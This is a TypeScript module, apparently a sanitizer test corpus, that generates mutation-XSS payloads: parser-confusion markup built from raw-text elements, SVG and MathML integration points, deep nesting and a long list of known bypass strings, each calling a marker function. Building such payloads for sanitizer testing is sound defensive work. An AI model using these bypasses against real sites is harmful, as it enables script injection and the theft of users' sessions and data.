import { type Payload, payloadsOf } from './payload.ts';

const act = '<img src=x onerror=hit(§)>';
const inAttribute = '&lt;img src=x onerror=hit(§)&gt;';

/** Elements whose content one parser takes for text and another for markup. */
const rawText = [
  'style',
  'title',
  'textarea',
  'xmp',
  'noscript',
  'noframes',
  'noembed',
  'iframe',
  'plaintext',
  'listing',
  'script',
];
const foreign = ['svg', 'math'];
/** Where HTML begins again inside of SVG and MathML. */
const integrationPoints = [
  ['svg', 'foreignObject'],
  ['svg', 'desc'],
  ['svg', 'title'],
  ['math', 'mi'],
  ['math', 'mtext'],
  ['math', 'ms'],
  ['math', 'annotation-xml encoding="text/html"'],
  ['math', 'annotation-xml encoding="application/xhtml+xml"'],
] as const;

const known = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit(§)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(§)>',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=hit(§)>"></style></h1>',
  '<svg></p><style><a id="</style><img src=1 onerror=hit(§)>">',
  '<svg><p><style><g title="</style><img src=x onerror=hit(§)>">',
  '<svg><style><img src=x onerror=hit(§)></style></svg>~',
  '<svg></br><style><a id="</style><img src=x onerror=hit(§)>"></style>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=hit(§)></style></annotation-xml></math>~',
  '<math><mi><table><mglyph><style><![CDATA[</style><img src=x onerror=hit(§)>]]></style></mglyph></table></mi></math>',
  '<svg><desc><noscript>&lt;/noscript>&lt;img src=x onerror=hit(§)></noscript></desc></svg>~',
  '<noscript><p title="</noscript><img src=x onerror=hit(§)>">~</noscript>',
  '<noscript><style></noscript><img src=x onerror=hit(§)></style>~</noscript>',
  '<select><template><style></select><img src=x onerror=hit(§)></style></template></select>~',
  '<select><style></select><img src=x onerror=hit(§)></style>~',
  '<select><noscript></select><img src=x onerror=hit(§)></noscript>~',
  '<select><option><selectedcontent><img src=x onerror=hit(§)></selectedcontent></option></select>~',
  '<select><button><selectedcontent></selectedcontent></button><option selected><img src=x onerror=hit(§)>~</option></select>',
  '<selectedcontent><img src=x onerror=hit(§)>~</selectedcontent>',
  '<p><svg><title><p></svg><img src=x onerror=hit(§)></title></p>~',
  '<table><svg><td><style></table><img src=x onerror=hit(§)></style></td></svg></table>~',
  '<table><tr><svg><desc><td><img src=x onerror=hit(§)>~</td></desc></svg></tr></table>',
  '<table><p title="<td>"><img src=x onerror=hit(§)></p><td>~</td></table>',
  '<table><colgroup><col><template><img src=x onerror=hit(§)></template></colgroup><tr><td>~</table>',
  '<table><caption><table><img src=x onerror=hit(§)></table></caption><tr><td>~</td></tr></table>',
  '<table><a href="https://fine.example/"><tr><td><a href="javascript:hit(§)">~</a></td></tr></a></table>',
  '<a><table><td><a><table><td><a><img src=x onerror=hit(§)>~</a></td></table></a></td></table></a>',
  '<b><p><b><p><b><p><img src=x onerror=hit(§)>~</b></b></b>',
  '<form><form><img src=x onerror=hit(§)>~</form></form>',
  '<form><div></form><form>~<img src=x onerror=hit(§)></form></div>',
  '<p><form><p></form><img src=x onerror=hit(§)>~',
  '<button><button><img src=x onerror=hit(§)>~</button></button>',
  '<nobr><nobr><img src=x onerror=hit(§)>~</nobr></nobr>',
  '<ruby><rtc><rt><img src=x onerror=hit(§)>~</rt></rtc></ruby>',
  '<frameset><noframes><img src=x onerror=hit(§)></noframes></frameset>',
  '<head><noscript><img src=x onerror=hit(§)></noscript></head>~',
  '<svg><foreignObject><math><mtext><style></foreignObject><img src=x onerror=hit(§)></style></mtext></math></foreignObject></svg>',
  '<math><mglyph><svg><mtext><style><a title="</style><img src onerror=hit(§)>"></mtext></svg></mglyph></math>',
  '<svg><a><foreignobject><a><table><a></table><style><!--</style></svg><a id="-><img src onerror=hit(§)>">',
  '<svg><svg><b></svg><img src=x onerror=hit(§)></b></svg>~',
  '<svg><font color=red><img src=x onerror=hit(§)>~</font></svg>',
  '<math><font size=1><img src=x onerror=hit(§)>~</font></math>',
  '<svg><path d="<img src=x onerror=hit(§)>"/></svg>~',
  '<p id="</p><img src=x onerror=hit(§)>">~</p>',
  '<p title="--><img src=x onerror=hit(§)>">~</p>',
  '<p title="</title><img src=x onerror=hit(§)>">~</p>',
  '<p title="</style></script></textarea></noscript></xmp><img src=x onerror=hit(§)>">~</p>',
  '<img alt="\'" title=\'"><img src=x onerror=hit(§)>\'>~',
  '<img alt="`><img src=x onerror=hit(§)>`" src="https://fine.example/§.jpg">~',
  '<pre>\n\n<img src=x onerror=hit(§)>~</pre>',
  '<textarea>\n</textarea><img src=x onerror=hit(§)>~',
  '<plaintext><img src=x onerror=hit(§)>',
  '<listing>&lt;img onerror=hit(§) src=x&gt;~</listing>',
  '<xmp>~</xmp><img src=x onerror=hit(§)>',
  '<option><style></option></select><img src=x onerror=hit(§)></style>',
  '<template><style></template><img src=x onerror=hit(§)></style></template>~',
  '<template><template><img src=x onerror=hit(§)></template></template>~',
  '<dialog><form method=dialog><img src=x onerror=hit(§)></form></dialog>~',
];

const nested = [64, 254, 300, 400, 508, 512, 600].flatMap(depth =>
  ['div', 'b', 'svg', 'math', 'blockquote', 'form', 'font'].map(
    tag => `${`<${tag}>`.repeat(depth)}<style><a title="</style>${act}">~`,
  ),
);

/** Mutation: markup that another parser, or the same one at another place, reads as something else. */
export const confusion: readonly Payload[] = payloadsOf('confusion', [
  ...rawText.map(tag => `<${tag}>${act}</${tag}>~`),
  ...rawText.map(tag => `<${tag}><a title="</${tag}>${act}">~</${tag}>`),
  ...rawText.map(tag => `<p title="</${tag}>${inAttribute}">~</p>`),
  ...foreign.flatMap(root =>
    rawText.map(tag => `<${root}><${tag}><a title="</${tag}>${act}">~</${tag}></${root}>`),
  ),
  ...integrationPoints.flatMap(([root, point]) => [
    `<${root}><${point}>${act}~</${root}>`,
    `<${root}><${point}><style><a title="</style>${act}"></style></${root}>~`,
    `<${root}><${point}><${root === 'svg' ? 'math' : 'svg'}><style>${act}</style></${root}>~`,
    `<${root}><${point}><p onclick=hit(§)>~</p></${root}>`,
  ]),
  ...known,
]);

export const depth: readonly Payload[] = payloadsOf('depth', nested);
